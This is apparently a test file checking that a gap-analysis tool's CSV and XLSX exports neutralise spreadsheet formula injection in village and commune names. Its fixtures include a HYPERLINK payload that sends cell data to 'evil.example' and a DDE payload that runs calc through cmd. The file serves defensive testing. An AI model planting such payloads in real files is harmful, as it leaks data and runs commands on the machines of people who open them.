/**
 * Spreadsheet formula injection: a village or commune name that starts with = + - @ (or a tab or
 * CR before one) opens as text in the CSV and XLSX downloads, in exceljs and in LibreOffice Calc;
 * numbers, negative ones included, stay numbers.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { GAP_COLUMNS, toCsv, toXlsx } from '../../../core/export';
import { neutraliseFormula } from '../../../core/export/formula';
import { findGaps } from '../../../core/gaps';
import { makeInput } from '../gaps/fixture';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bản")', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
const gaps = findGaps(makeInput()).slice(0, 3).flatMap((g, k) => HOSTILE.slice(2 * k, 2 * k + 2).map((name, j) => ({ ...g, id: `${g.id}-${j}`, name, communeName: `=cmd|' /C calc'!A${k}`, lon: -5 - k })));
const NAME = GAP_COLUMNS.findIndex((c) => c.key === 'village_name');
const COMMUNE = GAP_COLUMNS.findIndex((c) => c.key === 'commune_name');
const LON = GAP_COLUMNS.findIndex((c) => c.key === 'lon');

/** Cells of a workbook's first sheet, row by row (exceljs). */
async function sheetCells(xlsx: Uint8Array | Buffer): Promise<ExcelJS.Cell[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
  const rows: ExcelJS.Cell[][] = [];
  wb.worksheets[0].eachRow((row) => {
    const cells: ExcelJS.Cell[] = [];
    for (let c = 1; c <= GAP_COLUMNS.length; c++) cells.push(row.getCell(c));
    rows.push(cells);
  });
  return rows;
}

const hasSoffice = (() => {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore', timeout: 60_000 });
    return true;
  } catch {
    return false;
  }
})();

describe('formula injection', () => {
  it('neutraliseFormula prefixes text that a spreadsheet would run, and nothing else', () => {
    expect(HOSTILE.map(neutraliseFormula)).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(['Bản Nà Mạ', '12', 'a=b', ' =1', ''].map(neutraliseFormula)).toEqual(['Bản Nà Mạ', '12', 'a=b', ' =1', '']);
  });

  it('the CSV carries the text with a leading apostrophe and the negative longitudes as plain numbers', () => {
    const csv = toCsv(gaps, 'en');
    for (const h of HOSTILE) expect(csv).toContain(/[",\r\n]/.test(h) ? `"'${h.replace(/"/g, '""')}"` : `,'${h},`);
    expect(csv).toContain(",-5,");
    expect(csv).not.toContain(",'-5,");
    // with codes=text the one formula written is ours, ="digits" for the codes; names stay neutralised
    const coded = toCsv(gaps, 'en', { codes: 'text' });
    for (const h of HOSTILE) expect(coded).toContain(/[",\r\n]/.test(h) ? `"'${h.replace(/"/g, '""')}"` : `,'${h},`);
    expect(coded).toMatch(/,"=""\d+""",/);
  });

  it('the XLSX has text cells (never formulas) for the names, numbers for the longitudes (exceljs)', async () => {
    const rows = (await sheetCells(toXlsx(gaps, 'en'))).slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    rows.forEach((r, i) => {
      expect(r[NAME].type).toBe(ExcelJS.ValueType.String);
      expect(r[NAME].value).toBe(HOSTILE[i].replace('\r', '\n')); // XML reads a stored CR back as LF
      expect(r[COMMUNE].type).toBe(ExcelJS.ValueType.String);
      expect(r[LON].type).toBe(ExcelJS.ValueType.Number);
      expect(r[LON].value).toBeLessThan(0);
    });
  });

  it.skipIf(!hasSoffice)('LibreOffice Calc opens the CSV with text cells, not formulas', () => {
    const dir = mkdtempSync(join(tmpdir(), 'covgap-formula-'));
    try {
      writeFileSync(join(dir, 'gaps.csv'), toCsv(gaps, 'en'));
      // import as UTF-8 CSV (filter options: separator 44, quote 34, charset 76 = UTF-8, from row 1)
      execFileSync('soffice', [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, join(dir, 'gaps.csv')], { stdio: 'ignore', timeout: 120_000 });
      return sheetCells(readFileSync(join(dir, 'gaps.xlsx'))).then((all) => {
        const rows = all.slice(1);
        expect(rows).toHaveLength(HOSTILE.length);
        for (const r of rows) {
          expect(r[NAME].type).not.toBe(ExcelJS.ValueType.Formula);
          expect(r[COMMUNE].type).not.toBe(ExcelJS.ValueType.Formula);
          expect(r[LON].type).toBe(ExcelJS.ValueType.Number);
        }
        // the apostrophe stays, visibly: the name reads as it was sent, never as a result
        expect(rows.map((r) => r[NAME].value)).toEqual(HOSTILE.map((h) => `'${h}`.replace('\r', '\n')));
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 180_000);
});
